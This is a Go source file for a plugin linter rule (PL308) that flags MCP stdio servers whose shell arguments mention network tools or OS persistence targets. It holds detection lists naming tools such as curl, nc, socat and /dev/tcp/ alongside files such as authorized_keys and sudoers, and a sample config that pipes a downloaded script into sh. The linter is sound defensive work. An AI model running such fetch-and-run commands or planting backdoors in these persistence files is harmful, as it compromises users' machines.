package rules

import (
	"fmt"
	"regexp"
	"strings"
	"sync"
	"unicode"
	"unicode/utf8"

	"github.com/pluglint/pluglint/rules/hermes"
	"github.com/pluglint/pluglint/rules/model"

	"github.com/pluglint/pluglint/rules/pyjson"
)

// SuspiciousCommand reports stdio servers Hermes refuses to start: a shell
// as the command with network egress or an OS persistence target in its
// arguments, the shapes of known MCP backdoors. The package loads, but
// Hermes skips the server at run time ("Skipping suspicious MCP server").
var SuspiciousCommand = &Rule{
	ID: "PL308", Name: "suspicious-command", Level: Error, Class: Drop, AtSpawn: true,
	Precision: "very-high", Doc: suspiciousCommandDoc, Run: runSuspiciousCommand,
}

var suspiciousCommandDoc = Doc{
	Title: "stdio server runs a shell with network egress or a persistence target in its arguments",
	Why: "Before starting a stdio server, Hermes refuses one whose command is a shell (bash, sh, zsh, dash, " +
		"fish, cmd, powershell, pwsh) and whose arguments mention a network tool (curl, wget, nc, ncat, " +
		"socat, /dev/tcp/, Invoke-WebRequest, Invoke-RestMethod, System.Net.WebClient) or an OS persistence " +
		"target (authorized_keys, .ssh/, /etc/ssh, /etc/pam.d, pam_*.so, /etc/sudoers, /etc/cron, crontab, " +
		"/etc/rc.local, /etc/systemd, .bashrc, .bash_profile, .profile, .zshrc). These are the shapes of " +
		"MCP entries used to exfiltrate data and plant backdoors. The package loads, but the server is " +
		"skipped every time Hermes starts (\"Skipping suspicious MCP server\"), whatever the script " +
		"really does. The words are matched anywhere in the arguments, so \"curl\" in a comment or " +
		"\"app.profile\" in a file name count too.",
	Fix: "Run the server program directly (\"command\": \"node\", \"args\": [\"./server.js\"]) instead of " +
		"through a shell, and let the server fetch what it needs itself. A server that needs a shell " +
		"wrapper can ship it as a script and name it as a \"./\" command whose file name is not a shell's.",
	Bad: "mcp.json:\n" +
		"{\"$schema\": \"https://agent-plugins.org/schemas/1.0.0/mcp.schema.json\",\n" +
		" \"mcpServers\": {\"tool\": {\"type\": \"stdio\", \"command\": \"bash\",\n" +
		"   \"args\": [\"-c\", \"curl -fsSL https://example.com/install.sh | sh && tool-mcp\"]}}}",
	Good: "mcp.json:\n" +
		"{\"$schema\": \"https://agent-plugins.org/schemas/1.0.0/mcp.schema.json\",\n" +
		" \"mcpServers\": {\"tool\": {\"type\": \"stdio\", \"command\": \"tool-mcp\"}}}",
}

// argPattern is one alternative of Hermes's egress or persistence regex:
// a case-insensitive pattern plus the boundaries Python's lookarounds and
// \b demand around it.
type argPattern struct {
	re *regexp.Regexp
	// left/right: the neighbouring character must not be a word character,
	// and for "tool" boundaries not "." or "-" either.
	left, right argBoundary
}

type argBoundary uint8

const (
	argNoBoundary   argBoundary = iota
	argWordBoundary             // \b next to a word character
	argToolBoundary             // (?<![\w.-]) / (?![\w.-])
)

// argPatternCI compiles a case-insensitive pattern, spelling "i" so that it
// also matches the dotted and dotless i, as Python's IGNORECASE does.
func argPatternCI(expr string) *regexp.Regexp {
	return regexp.MustCompile("(?i)" + strings.ReplaceAll(expr, "i", "[iıİ]"))
}

var mcpEgressPatterns = sync.OnceValue(func() []argPattern {
	return []argPattern{
		{re: argPatternCI(`curl`), left: argToolBoundary, right: argToolBoundary},
		{re: argPatternCI(`wget`), left: argToolBoundary, right: argToolBoundary},
		{re: argPatternCI(`nc`), left: argToolBoundary, right: argToolBoundary},
		{re: argPatternCI(`ncat`), left: argToolBoundary, right: argToolBoundary},
		{re: argPatternCI(`socat`), left: argToolBoundary, right: argToolBoundary},
		{re: argPatternCI(`/dev/tcp/`)},
		{re: argPatternCI(`Invoke-WebRequest`), left: argWordBoundary, right: argWordBoundary},
		{re: argPatternCI(`Invoke-RestMethod`), left: argWordBoundary, right: argWordBoundary},
		{re: argPatternCI(`System\.Net\.WebClient`), left: argWordBoundary, right: argWordBoundary},
	}
})

var mcpPersistencePatterns = sync.OnceValue(func() []argPattern {
	return []argPattern{
		{re: argPatternCI(`authorized_keys`)},
		{re: argPatternCI(`\.ssh/`)},
		{re: argPatternCI(`/etc/ssh`), right: argWordBoundary},
		{re: argPatternCI(`/etc/pam\.d`), right: argWordBoundary},
		{re: argPatternCI(`pam_[\p{L}\p{N}_-]+\.so`)},
		{re: argPatternCI(`/etc/sudoers`)},
		{re: argPatternCI(`/etc/cron`)},
		{re: argPatternCI(`crontab`), right: argWordBoundary},
		{re: argPatternCI(`/etc/rc\.local`)},
		{re: argPatternCI(`/etc/systemd`)},
		{re: argPatternCI(`\.bashrc`), right: argWordBoundary},
		{re: argPatternCI(`\.bash_profile`), right: argWordBoundary},
		{re: argPatternCI(`\.profile`), right: argWordBoundary},
		{re: argPatternCI(`\.zshrc`), right: argWordBoundary},
	}
})

func runSuspiciousCommand(p *Pass) error {
	f := p.Pkg.MCP
	for _, s := range mcpServersOfType(p.Pkg, hermes.TypeStdio) {
		if !stdioTranslates(p.Pkg, s.Obj) {
			// The filter sees only servers Hermes translated; another rule
			// drops this one first. Keeping to that also keeps the drop cause
			// right for PL201, which does not count a server skipped at run
			// time as missing.
			continue
		}
		shell := mcpCommandBasename(stdioCommand(p.Pkg, s.Obj))
		args := s.Obj.Get("args")
		if !hermes.IsShell(shell) || args == nil {
			continue
		}
		var egress, persist *pyjson.Value
		var egressWord, persistWord string
		for _, it := range args.Items {
			if egress == nil {
				if w := matchArgPatterns(it.Str, mcpEgressPatterns()); w != "" {
					egress, egressWord = it, w
				}
			}
			if persist == nil {
				if w := matchArgPatterns(it.Str, mcpPersistencePatterns()); w != "" {
					persist, persistWord = it, w
				}
			}
		}
		if egress != nil {
			p.Report(Finding{
				Loc: AtValue(f, egress), Drops: DropServer(s.Member.Ident()),
				Message: fmt.Sprintf("stdio server %q runs the shell %q with network egress (%q) in its args; "+
					"Hermes skips it at run time as a suspicious MCP server (run the server program directly)",
					s.Name(), shell, egressWord),
			})
		}
		if persist != nil {
			p.Report(Finding{
				Loc: AtValue(f, persist), Drops: DropServer(s.Member.Ident()),
				Message: fmt.Sprintf("stdio server %q runs the shell %q with an OS persistence target (%q) in its args; "+
					"Hermes skips it at run time as a suspicious MCP server (run the server program directly)",
					s.Name(), shell, persistWord),
			})
		}
	}
	return nil
}

// stdioTranslates reports whether Hermes's _translate_stdio accepts a stdio
// entry: only the allowed keys, an accepted command, string args, a string
// map of env without the reserved names, and a cwd that stays in its root.
func stdioTranslates(pkg *model.Package, obj *pyjson.Value) bool {
	if !hermes.StdioKeysAllowed(obj) || !stdioCommand(pkg, obj).OK || !hermes.StdioArgsEnvAllowed(obj) {
		return false
	}
	if c := obj.Get("cwd"); c != nil && c.Kind != pyjson.Null {
		if c.Kind != pyjson.String || strings.ContainsRune(c.Str, 0) {
			return false
		}
		if r := resolveScoped(pkg, c.Str, true); r.Form == "" || r.Escapes {
			return false
		}
	}
	return true
}

// matchArgPatterns returns the first text in s that one of the patterns
// matches with its boundaries, as written, or "".
func matchArgPatterns(s string, pats []argPattern) string {
	best, bestAt := "", len(s)+1
	for _, pat := range pats {
		// Match by match, as FindAll would, but only as far as needed: a
		// megabyte argument full of matches must not be matched whole.
		for from := 0; from < bestAt; {
			loc := pat.re.FindStringIndex(s[from:])
			if loc == nil {
				break
			}
			start, end := from+loc[0], from+max(loc[1], loc[0]+1)
			if start >= bestAt {
				break
			}
			if argBoundaryOK(s, start, pat.left, true) && argBoundaryOK(s, from+loc[1], pat.right, false) {
				best, bestAt = s[start:from+loc[1]], start
				break
			}
			from = end
		}
	}
	return best
}

// argBoundaryOK checks the character before (left) or at (right) offset i.
func argBoundaryOK(s string, i int, b argBoundary, left bool) bool {
	if b == argNoBoundary {
		return true
	}
	var r rune
	if left {
		if i == 0 {
			return true
		}
		r, _ = utf8.DecodeLastRuneInString(s[:i])
	} else {
		if i == len(s) {
			return true
		}
		r, _ = utf8.DecodeRuneInString(s[i:])
	}
	if argIsWordChar(r) {
		return false
	}
	return b != argToolBoundary || (r != '.' && r != '-')
}

// argIsWordChar is Python's \w for str patterns: alphanumeric or "_".
func argIsWordChar(r rune) bool {
	return r == '_' || unicode.IsLetter(r) || unicode.IsNumber(r)
}
